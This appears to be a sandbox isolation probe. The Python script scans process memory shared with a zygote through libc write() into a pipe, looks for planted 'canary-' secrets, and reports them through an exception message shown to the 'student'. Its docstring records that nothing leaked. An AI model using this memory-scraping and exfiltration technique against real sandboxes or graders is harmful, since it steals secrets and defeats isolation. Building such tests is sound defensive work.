"""Scans its own writable memory, which it shares with the zygote, byte by byte.

Observed: the zygote has never read a secret.
Says: LOOT None
"""

import ctypes
import os
import re


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


found = ""
import torch
here = id(torch) >> 24 << 24
probe = ctypes.CDLL(None, use_errno=True)
page = bytearray(1 << 16)
reader, writer = os.pipe()
for block in range(here - (64 << 20), here + (64 << 20), 1 << 16):
    if probe.write(writer, ctypes.c_void_p(block), 1 << 12) <= 0:  # EFAULT where nothing is mapped
        continue
    chunk = os.read(reader, 1 << 16)
    at = chunk.find(b"canary-")
    if at >= 0 and chunk[at + 7 : at + 8] in b"0123456789abcdef":
        found += chunk[at : at + 40].decode("latin-1")
loot(found)
